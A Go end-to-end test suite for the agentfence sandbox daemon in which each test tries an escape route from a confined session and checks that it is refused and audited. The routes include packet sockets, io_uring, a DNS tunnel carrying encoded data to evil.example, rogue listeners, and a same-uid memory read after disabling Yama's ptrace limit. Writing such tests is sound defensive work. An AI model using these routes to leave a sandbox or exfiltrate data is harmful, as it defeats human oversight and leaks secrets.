package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	v1 "github.com/agentfence/agentfence/api/v1"
	"github.com/agentfence/agentfence/enforcer"

	"golang.org/x/sys/unix"

	"github.com/agentfence/agentfence/audit"
	"github.com/agentfence/agentfence/internal/kerneltest"
)

// The red-team suite: each test takes one route out of a session
// (docs/threat-model.md, "Routes out") as a hostile member would, through
// the real daemon, and asserts both that the route failed and that the
// attempt left an audit record. The routes that leave the session itself
// are in escape_test.go, the dropped capabilities in capabilities_test.go.

// probe is one result of a member's probe: the pid that acted and what it got.
// runProbe runs this binary as a member under `agentfence run` with allow
// rules and extra run flags, doing the probe's operations.
func runProbe(t *testing.T, d *daemon, runFlags []string, ops ...kerneltest.Op) []kerneltest.Result {
	t.Helper()
	args := append([]string{"run", "--intent", "bypass " + t.Name()}, runFlags...)
	stdout, stderr, code := d.cli(t, kerneltest.Env(t, kerneltest.Options{}, ops...), append(args, "--", os.Args[0])...)
	if code != 0 {
		t.Fatalf("run: exit %d: %s %s", code, stdout, stderr)
	}
	out, err := kerneltest.ParseResults(stdout)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != len(ops) {
		t.Fatalf("probe gave %d results for %d operations: %q", len(out), len(ops), stdout)
	}
	return out
}

// recordOf waits for a record of kind from pid that matches.
func (d *daemon) recordOf(t *testing.T, what, kind string, pid uint32, match func(audit.Record) bool) audit.Record {
	t.Helper()
	return d.waitRecord(t, what, func(r audit.Record) bool {
		return r.Kind == kind && r.Process != nil && r.Process.PID == pid && r.Outcome != nil && (match == nil || match(r))
	})
}

func denied(r audit.Record) bool { return r.Outcome.Verdict == audit.VerdictDenied }

// hookLayer is the boundary layer this daemon refuses at the LSM hooks
// with (bpf_lsm or fmod_ret: its log says), or "" where it runs none.
func (d *daemon) hookLayer() string {
	for _, line := range strings.Split(d.log(), "\n") {
		if strings.Contains(line, "refused at the LSM hooks") {
			for _, layer := range []enforcer.FamilyLayer{enforcer.FamiliesLSM, enforcer.FamiliesFmodRet} {
				if strings.Contains(line, " layer="+string(layer)) {
					return string(layer)
				}
			}
		}
	}
	return ""
}

// A member launched by run keeps CAP_NET_RAW (--keep-cap net_raw) and
// opens a packet socket: run's seccomp filter refuses it (EAFNOSUPPORT)
// before any capability or LSM check, and the socket syscall's exit
// records the refusal. Outside a session the same socket works.
func TestBypassPacketSocketFromRun(t *testing.T) {
	d := startDaemon(t)
	packet := kerneltest.PacketSocket
	if res := kerneltest.Run(t, "", kerneltest.Options{}, packet); res[0].Outcome() != "ok" {
		t.Fatalf("outside a session, a root packet socket: %s", res[0].Outcome())
	}
	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, packet, kerneltest.Socket{Family: unix.AF_XDP, Type: unix.SOCK_RAW})
	if res[0].Outcome() != "EAFNOSUPPORT" || res[1].Outcome() != "EAFNOSUPPORT" {
		t.Errorf("member packet and XDP sockets: %s %s, want EAFNOSUPPORT", res[0].Outcome(), res[1].Outcome())
	}
	r := d.recordOf(t, "packet socket", audit.KindSocket, uint32(res[0].PID), denied)
	if r.Socket == nil || r.Socket.Family != "packet" || r.Socket.Type != "raw" || r.Socket.RefusedBy != "seccomp" ||
		r.Outcome.Errno != "EAFNOSUPPORT" || r.Outcome.Reason != "socket_family" || r.Session == nil {
		t.Errorf("record %+v socket %+v outcome %+v", r, r.Socket, r.Outcome)
	}
	d.recordOf(t, "xdp socket", audit.KindSocket, uint32(res[1].PID), func(r audit.Record) bool {
		return r.Socket != nil && r.Socket.Family == "xdp"
	})
}

// A root process bound to a session by pid holds CAP_NET_RAW: no seccomp
// filter stands in its way. Where the BPF LSM runs, the socket is refused
// and recorded. Elsewhere the socket syscall's exit sees it created, and
// the session's drift action (kill, here) follows before the syscall
// returns: the member never runs again, and the trail says why.
func TestBypassPacketSocketFromBoundMember(t *testing.T) {
	d := startDaemon(t, "--config", configFile(t, "sessions:\n  drift_action: kill\n"))
	ln := kerneltest.Listen(t, "tcp4", "127.0.0.1:0")
	s := d.openSession(t, "--intent", "bound packet", "--allow", "tcp://"+ln.String())
	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.PacketSocket, kerneltest.Connect{Addr: ln})
	if res := p.Next(); res.Outcome() != kerneltest.Ready {
		t.Fatalf("probe: %s", res)
	}
	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
		t.Fatalf("bind: %s", stderr)
	}
	pid := uint32(p.PID)
	// It holds the keys run would have taken: show and the bound record
	// say so.
	out, stderr, code := d.cli(t, nil, "session", "show", "--socket", d.socket, s.ID)
	var shown v1.Session
	if err := json.Unmarshal([]byte(out), &shown); err != nil || code != 0 {
		t.Fatalf("show: exit %d %q %s", code, out, stderr)
	}
	bound := d.waitRecord(t, "bound", func(r audit.Record) bool {
		return r.Kind == audit.KindSession && r.Event == "bound" && r.Session.ID == s.ID
	})
	fromRecord := make([]v1.HeldCaps, len(bound.Session.GateCaps))
	for i, h := range bound.Session.GateCaps {
		fromRecord[i] = v1.HeldCaps(h)
	}
	for what, held := range map[string][]v1.HeldCaps{"show": shown.Binding.GateCaps, "bound record": fromRecord} {
		if len(held) != 1 || held[0].PID != pid || !slices.Contains(held[0].Caps, "CAP_NET_RAW") {
			t.Errorf("%s: gate caps %+v, want pid %d with CAP_NET_RAW", what, held, pid)
		}
	}
	p.Go()
	if layer := d.hookLayer(); layer != "" {
		if r1 := p.Next(); r1.Outcome() != "EPERM" {
			t.Errorf("bound member's packet socket: %s, want EPERM", r1)
		}
		r := d.recordOf(t, "packet socket", audit.KindSocket, pid, denied)
		if r.Socket == nil || r.Socket.RefusedBy != layer || r.Session.ID != s.ID {
			t.Errorf("record %+v socket %+v", r, r.Socket)
		}
		return
	}
	st := p.Wait()
	ws, ok := st.Sys().(syscall.WaitStatus)
	if !ok || !ws.Signaled() || ws.Signal() != syscall.SIGKILL {
		t.Fatalf("bound member with a packet socket ended %v, want killed", st)
	}
	r := d.recordOf(t, "packet socket", audit.KindSocket, pid, func(r audit.Record) bool {
		return r.Outcome.Verdict == audit.VerdictDetected
	})
	if r.Socket == nil || r.Socket.Family != "packet" || r.Socket.RefusedBy != "" || r.Session.ID != s.ID {
		t.Errorf("record %+v socket %+v", r, r.Socket)
	}
	d.waitRecord(t, "killed", func(r audit.Record) bool {
		return r.Kind == audit.KindSession && r.Event == "killed" && r.Session.ID == s.ID
	})
}

// Inet sockets the gate cannot judge by address: raw ones (even with
// CAP_NET_RAW kept) and protocols other than TCP and UDP (SCTP, where the
// kernel has it) are refused at creation and recorded.
func TestBypassOtherInetProtocols(t *testing.T) {
	d := startDaemon(t)
	sctp := kerneltest.Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, Proto: unix.IPPROTO_SCTP}
	direct := kerneltest.Run(t, "", kerneltest.Options{}, sctp)[0].Outcome()
	res := runProbe(t, d, []string{"--keep-cap", "net_raw", "--allow", "udp://127.0.0.53:53"}, kerneltest.RawICMP, sctp)
	if res[0].Outcome() != "EPERM" {
		t.Errorf("member raw inet socket: %s, want EPERM", res[0].Outcome())
	}
	d.recordOf(t, "raw socket", audit.KindSocket, uint32(res[0].PID), func(r audit.Record) bool {
		return denied(r) && r.Outcome.Reason == "socket_type"
	})
	if direct != "ok" {
		t.Logf("no SCTP on this kernel (%s): not tried", direct)
		return
	}
	if res[1].Outcome() != "EPERM" {
		t.Errorf("member SCTP socket: %s, want EPERM", res[1].Outcome())
	}
	d.recordOf(t, "sctp socket", audit.KindSocket, uint32(res[1].PID), func(r audit.Record) bool {
		return denied(r) && r.Outcome.Reason == "socket_type"
	})
}

// io_uring's connect runs the kernel's connect code, hooks included. run
// refuses io_uring_setup (ENOSYS), so the route is tried by a process bound
// by pid, which nothing keeps from io_uring.
func TestBypassIOUring(t *testing.T) {
	d := startDaemon(t)
	in := kerneltest.Serve(t, "127.0.0.1:0")
	out := kerneltest.Serve(t, "127.0.0.1:0")
	if res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, kerneltest.Uring{Addr: in}); res[0].Outcome() != "setup:ENOSYS" {
		t.Errorf("io_uring under run: %s, want setup:ENOSYS", res[0].Outcome())
	}
	s := d.openSession(t, "--intent", "uring", "--allow", "tcp://"+in.String())
	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.Uring{Addr: out}, kerneltest.Uring{Addr: in})
	if res := p.Next(); res.Outcome() != kerneltest.Ready {
		t.Fatalf("probe: %s", res)
	}
	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
		t.Fatalf("bind: %s", stderr)
	}
	p.Go()
	r1, r2 := p.Next(), p.Next()
	if r1.Stage == "setup" {
		t.Skipf("no io_uring on this kernel: %s", r1)
	}
	if r1.Outcome() != "EPERM" || r2.Outcome() != "ok" {
		t.Errorf("io_uring connect out of scope %s, in scope %s; want EPERM, ok", r1, r2)
	}
	d.recordOf(t, "io_uring connect", audit.KindConnect, uint32(p.PID), func(r audit.Record) bool {
		return denied(r) && r.Destination != nil && r.Destination.Port == out.Port()
	})
}

// Connects in other shapes: TCP fast open (sendto with MSG_FASTOPEN, no
// connect), an IPv4 address written v4-mapped on an IPv6 socket, and from a
// daemonized grandchild (setsid, reparented). Each is judged as the plain
// connect and recorded under the acting process.
func TestBypassConnectShapes(t *testing.T) {
	d := startDaemon(t)
	in := kerneltest.Serve(t, "127.0.0.1:0")
	out := kerneltest.Serve(t, "127.0.0.1:0")
	mapped := func(ap netip.AddrPort) netip.AddrPort {
		return netip.AddrPortFrom(netip.AddrFrom16(ap.Addr().As16()), ap.Port())
	}
	res := runProbe(t, d, []string{"--allow", "tcp://" + in.String()}, kerneltest.FastOpen{Addr: out},
		kerneltest.Connect{Addr: mapped(out), V6: true}, kerneltest.Connect{Addr: mapped(in), V6: true})
	if res[0].Outcome() != "EPERM" || res[1].Outcome() != "EPERM" || res[2].Outcome() != "ok" {
		t.Errorf("fast open, mapped out of scope, mapped in scope: %v; want EPERM EPERM ok", res)
	}
	for i, what := range []string{"fast open", "v4-mapped"} {
		r := d.recordOf(t, what, audit.KindConnect, uint32(res[i].PID), denied)
		if r.Destination == nil || r.Destination.IP != "127.0.0.1" || r.Destination.Port != out.Port() {
			t.Errorf("%s record destination %+v", what, r.Destination)
		}
	}

	stdout, stderr, code := d.cli(t, kerneltest.Env(t, kerneltest.Options{Depth: 2, Detach: true}, kerneltest.Connect{Addr: out}),
		"run", "--intent", "daemonized", "--allow", "tcp://"+in.String(), "--", os.Args[0])
	got, err := kerneltest.ParseResults(stdout)
	if err != nil || len(got) == 0 || code != 0 {
		t.Fatalf("run: exit %d: %q %s (%v)", code, stdout, stderr, err)
	}
	if got[0].Outcome() != "EPERM" {
		t.Errorf("daemonized grandchild: %s, want EPERM", got[0])
	}
	d.recordOf(t, "daemonized grandchild", audit.KindConnect, uint32(got[0].PID), denied)
}

// A DNS tunnel: a member whose scope allows a resolver asks it for
// <secret>.evil.example. With the default dns mode (scoped) the query
// fails at sendto and never reaches the resolver, which a query for an
// allowed name sent after it proves, and a dns record names what was asked.
func TestBypassDNSTunnel(t *testing.T) {
	d := startDaemon(t)
	pc, err := net.ListenPacket("udp", "127.0.55.1:53")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got []string
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 4096)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if n < 12 {
				continue
			}
			var labels []string
			for p := 12; p < n && buf[p] != 0 && p+1+int(buf[p]) <= n; p += 1 + int(buf[p]) {
				labels = append(labels, string(buf[p+1:p+1+int(buf[p])]))
			}
			mu.Lock()
			got = append(got, strings.Join(labels, "."))
			mu.Unlock()
			reply := slices.Clone(buf[:n])
			reply[2], reply[3] = 0x81, 0x83 // a response, NXDOMAIN
			pc.WriteTo(reply, from)
		}
	}()
	t.Cleanup(func() { pc.Close(); <-done })

	const tunnel = "aGVsbG8gd29ybGQ.evil.example"
	res := runProbe(t, d, []string{"--allow", "udp://127.0.55.1:53", "--allow", "api.example.com:443"},
		kerneltest.DNSQuery{Net: "udp", Server: netip.MustParseAddrPort("127.0.55.1:53"), Name: tunnel},
		kerneltest.DNSQuery{Net: "udp", Server: netip.MustParseAddrPort("127.0.55.1:53"), Name: "api.example.com"})
	if res[0].Outcome() != "EPERM" || res[1].Outcome() != "ok" {
		t.Errorf("tunnel query, allowed query: %v; want EPERM ok", res)
	}
	mu.Lock()
	if !slices.Equal(got, []string{"api.example.com"}) {
		t.Errorf("the resolver received %q, want only api.example.com", got)
	}
	mu.Unlock()
	r := d.recordOf(t, "tunnel query", audit.KindDNS, uint32(res[0].PID), denied)
	if r.Query == nil || r.Query.Name != tunnel || r.Query.Type != "A" || r.Outcome.Reason != "dns_name_unscoped" ||
		r.Outcome.Errno != "EPERM" || r.Destination == nil || r.Destination.IP != "127.0.55.1" || r.Destination.Port != 53 {
		t.Errorf("tunnel record: query %+v outcome %+v destination %+v", r.Query, r.Outcome, r.Destination)
	}
	if r.Session == nil || r.Session.ID == "" || r.Session.ID == "unknown" {
		t.Errorf("tunnel record session %+v", r.Session)
	}
}

// Inbound: a member binds a port no in: rule names (refused and recorded),
// or listens on an ephemeral one and waits for a peer its scope does not
// name. The peer, this test process, sends its SYN; the gate drops it
// before the handshake completes and records the peer as the source.
func TestBypassInbound(t *testing.T) {
	d := startDaemon(t)
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	free := l.Addr().(*net.TCPAddr).Port
	l.Close()
	bind := kerneltest.Bind{Addr: netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), uint16(free))}
	res := runProbe(t, d, []string{"--allow", "udp://127.0.0.53:53"}, bind)
	if res[0].Outcome() != "EPERM" {
		t.Errorf("member bind of an unnamed port: %s, want EPERM", res[0].Outcome())
	}
	r := d.recordOf(t, "bind", audit.KindBind, uint32(res[0].PID), denied)
	if r.Destination == nil || r.Destination.Port != uint16(free) || r.Outcome.Errno != "EPERM" {
		t.Errorf("bind record destination %+v outcome %+v", r.Destination, r.Outcome)
	}

	s := d.openSession(t, "--intent", "listener", "--allow", "udp://127.0.0.53:53")
	p := kerneltest.Start(t, "", kerneltest.Options{}, true, kerneltest.ListenTCP{})
	if res := p.Next(); res.Outcome() != kerneltest.Ready {
		t.Fatalf("probe: %s", res)
	}
	if _, stderr, code := d.cli(t, nil, "session", "bind", "--socket", d.socket, s.ID, "--pid", fmt.Sprint(p.PID)); code != 0 {
		t.Fatalf("bind: %s", stderr)
	}
	p.Go()
	out := p.Next()
	if out.Err != kerneltest.OK {
		t.Fatalf("member listen: %s", out)
	}
	port := out.Port
	fd, peerPort := kerneltest.Dial(t, netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), port))
	r = d.recordOf(t, "inbound", audit.KindInbound, uint32(p.PID), func(r audit.Record) bool {
		return r.Source != nil && r.Source.Port == peerPort
	})
	if !denied(r) || r.Destination == nil || r.Destination.Port != port || r.Session == nil || r.Session.ID != s.ID {
		t.Errorf("inbound record destination %+v outcome %+v", r.Destination, r.Outcome)
	}
	if kerneltest.Connected(t, fd, 0) {
		t.Error("the peer's connect completed although the gate dropped its SYN")
	}
}

// Route 17: a member acts through a process outside its session that runs
// as the same ids. The member (run drops its capabilities, then it becomes
// uid 65534) reads the memory of a uid-65534 process that is in no session,
// which the kernel allows (same uid, no capability the member lacks: the
// same read outside a session gets EFAULT, an unmapped address). Where the
// BPF LSM runs it is refused with EPERM and recorded as an escape naming
// the target; elsewhere the route is open, and the test says so.
func TestBypassPtraceSameUID(t *testing.T) {
	// Yama's ptrace_scope 1 (its default, Debian's kernels run it) already
	// refuses any non-descendant; at 0 only the ids and the gate decide.
	yamaOff(t)
	d := startDaemon(t)
	target := exec.Command("/bin/sleep", "600")
	// gid 0: the probe's "nobody" changes only its uid, and the kernel
	// wants both ids to match.
	target.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 0}, Pdeathsig: syscall.SIGKILL}
	if err := target.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { target.Process.Kill(); target.Wait() })
	actions := fmt.Sprintf("nobody;vmread %d", target.Process.Pid)
	if direct := directProbe(t, actions); direct["vmread"] != "EFAULT" {
		t.Fatalf("outside a session, as uid 65534: vmread of a uid-65534 process: %s, want EFAULT", direct["vmread"])
	}
	stdout, stderr, code := d.cli(t, []string{capProbeEnv + "=" + actions},
		"run", "--intent", "ptrace", "--allow", "udp://127.0.0.53:53", "--", os.Args[0])
	if code != 0 {
		t.Fatalf("run: exit %d: %s", code, stderr)
	}
	res := capResults(t, stdout)
	if d.hookLayer() == "" {
		if res["vmread"] != "EFAULT" {
			t.Errorf("without a hook layer: %s, want EFAULT (route 17 open here)", res["vmread"])
		}
		t.Skip("no hook layer (BPF LSM or fmod_ret) on this host: route 17 is open (docs/threat-model.md)")
	}
	if res["vmread"] != "EPERM" {
		t.Errorf("member's vmread of a same-uid process outside the session: %s, want EPERM", res["vmread"])
	}
	r := d.waitRecord(t, "ptrace escape", func(r audit.Record) bool {
		return r.Kind == audit.KindEscape && r.Escape != nil && r.Escape.What == "ptrace"
	})
	if r.Escape.TargetPID != uint32(target.Process.Pid) || !denied(r) || r.Outcome.Errno != "EPERM" || r.Process.UID != 65534 {
		t.Errorf("ptrace record: escape %+v outcome %+v process %+v", r.Escape, r.Outcome, r.Process)
	}
}

// yamaOff sets Yama's ptrace_scope to 0 for the test, so that only the ids
// and the gate decide who may attach, and restores it afterwards.
func yamaOff(t *testing.T) {
	const yama = "/proc/sys/kernel/yama/ptrace_scope"
	if scope, err := os.ReadFile(yama); err == nil {
		if err := os.WriteFile(yama, []byte("0"), 0); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.WriteFile(yama, scope, 0) })
	}
}
